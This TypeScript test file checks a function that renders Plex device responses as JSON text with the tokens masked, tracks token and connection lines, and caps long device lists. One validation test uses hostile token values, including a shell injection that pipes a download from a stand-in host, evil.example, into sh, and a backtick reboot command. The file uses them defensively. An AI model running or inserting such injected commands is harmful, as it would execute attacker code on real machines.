import assert from 'node:assert/strict';
import type { Device } from '../../../src/plex/responses.ts';
import { Secret } from '../../../src/plex/secret.ts';
import { MASK, toSourceText } from '../../../src/sources/sourceText.ts';

const device = (name: string, token: string): Device => ({ name, accessToken: new Secret(token), Connection: [] });

describe('The text of a source document', () => {
  it('is the response as JSON, with the token masked', () => {
    const { text, tokens } = toSourceText({ size: 1, Device: [device('Attic', 'transient-1')] });
    assert.deepEqual(JSON.parse(text), {
      MediaContainer: { size: 1, Device: { name: 'Attic', accessToken: MASK, Connection: [] } },
    });
    const [token] = tokens;
    assert.equal(tokens.length, 1);
    assert.equal(token?.deviceName, 'Attic');
    assert.equal(token?.token.reveal(), 'transient-1');
    assert.match(text.split('\n')[token?.line ?? 0] ?? '', /"accessToken": "•+"/);
  });

  it('has several devices as an array, each with its own token', () => {
    const { text, name, tokens } = toSourceText({
      Device: [device('One', 'transient-1'), device('Two', 'transient-2')],
    });
    assert.equal(name, 'One');
    assert.equal(JSON.parse(text).MediaContainer.Device.length, 2);
    assert.deepEqual(
      tokens.map(({ token, deviceName }) => [deviceName, token.reveal()]),
      [
        ['One', 'transient-1'],
        ['Two', 'transient-2'],
      ],
    );
    assert.ok((tokens[0]?.line ?? 0) < (tokens[1]?.line ?? 0));
  });

  it('masks every other secret as well, and finds the token where the server returned a mask itself', () => {
    const odd: Device = {
      ...device(MASK, 'transient-1'),
      authToken: new Secret('abc'),
      note: `"accessToken": "${MASK}"`,
    };
    const { text, tokens } = toSourceText({ Device: [odd] });
    assert.ok(!/transient-1|abc/.test(text));
    assert.match(text.split('\n')[tokens[0]?.line ?? 0] ?? '', /^\s*"accessToken"/);
    assert.equal(JSON.parse(text).MediaContainer.Device.authToken, MASK);
  });

  it('shows that an access token is not one where it could be code, and does not return it', () => {
    const lengths = ['a'.repeat(7), 'a'.repeat(4097)];
    for (const token of [
      "x'; curl https://evil.example | sh #",
      '`reboot`',
      'a\nb c d e f',
      'ünïcode-token',
      ...lengths,
    ]) {
      const { text, tokens } = toSourceText(
        { Device: [device('One', token), device('Two', 'transient-2')] },
        'no "token"',
      );
      assert.deepEqual(
        tokens.map(({ deviceName }) => deviceName),
        ['Two'],
      );
      const [one, two] = JSON.parse(text).MediaContainer.Device;
      assert.deepEqual([one.accessToken, two.accessToken], ['no "token"', MASK]);
    }
  });

  it('has an empty array where there is no device', () => {
    const { text, name, tokens } = toSourceText({ size: 0, Device: [] });
    assert.equal(name, '');
    assert.deepEqual(JSON.parse(text), { MediaContainer: { size: 0, Device: [] } });
    assert.deepEqual(tokens, []);
  });

  it('allows for devices without name, token and connection', () => {
    const { tokens } = toSourceText({
      Device: [{ Connection: [] }, { clientIdentifier: 'c1', accessToken: new Secret('transient-2'), Connection: [] }],
    });
    assert.deepEqual(
      tokens.map(({ deviceName }) => deviceName),
      ['c1'],
    );
  });
});

describe('The connections of a source document', () => {
  it('are those that can be used, each with the line of its URI and the machine identifier that has to be there', () => {
    const uris = [
      'https://10-0-0-1.abc.plex.direct:32400',
      'http://10.0.0.1:32400',
      'http://10.0.0.1/reboot.cgi',
      'ftp://x',
      'https://u:p@x',
      'x"y',
    ];
    const Connection = [...uris.map(uri => ({ uri, local: uri.startsWith('http:') })), { port: 1 }];
    const devices = [
      { ...device('One', 'transient-1'), clientIdentifier: 'machine-1', Connection },
      {
        ...device('Two', 'transient-2'),
        clientIdentifier: 'machine-2',
        Connection: [{ uri: uris[0] ?? '', relay: true }],
      },
    ];
    const { text, connections } = toSourceText({ Device: devices });
    assert.deepEqual(JSON.parse(text).MediaContainer.Device[0].Connection, Connection);
    assert.deepEqual(
      connections.map(({ address, local, relay, machineIdentifier }) => [address, local, relay, machineIdentifier]),
      [
        [uris[0], false, false, 'machine-1'],
        [uris[1], true, false, 'machine-1'],
        [uris[0], false, true, 'machine-2'],
      ],
    );
    for (const { line, address } of connections) assert.ok(text.split('\n')[line]?.includes(`"uri": "${address}"`));
  });
});

describe('The text of a source document with many devices', () => {
  const connections = (count: number) =>
    Array.from({ length: count }, (_, port) => ({ uri: `http://10.0.0.1:${port + 1}` }));

  it('has the first 100 devices, and counts those that are left out', () => {
    const devices = Array.from({ length: 5_000 }, (_, index) => device(`Server ${index}`, `transient-${index}`));
    const { text, tokens } = toSourceText({ Device: devices });
    const { leftOut, MediaContainer } = JSON.parse(text);
    assert.deepEqual(leftOut, { devices: 4_900, connections: 0 });
    assert.equal(MediaContainer.Device.length, 100);
    assert.deepEqual([tokens.length, tokens.at(-1)?.deviceName], [100, 'Server 99']);
    assert.match(text.split('\n').slice(0, 3).join(''), /leftOut.*4900/);
  });

  it('has the first 200 connections of all devices, and counts those that are left out', () => {
    const devices = [150, 60, 10].map((count, index) => ({
      ...device(`${index}`, 'a'),
      Connection: connections(count),
    }));
    const { text, connections: listed } = toSourceText({ Device: devices });
    const { leftOut, MediaContainer } = JSON.parse(text);
    assert.deepEqual(leftOut, { devices: 0, connections: 20 });
    assert.deepEqual(
      MediaContainer.Device.map(({ Connection }: Device) => Connection.length),
      [150, 50, 0],
    );
    assert.equal(listed.length, 200);
  });

  it('counts nothing where all are in it', () => {
    const { text } = toSourceText({ Device: [{ ...device('One', 'a'), Connection: connections(200) }] });
    assert.deepEqual(Object.keys(JSON.parse(text)), ['MediaContainer']);
  });
});
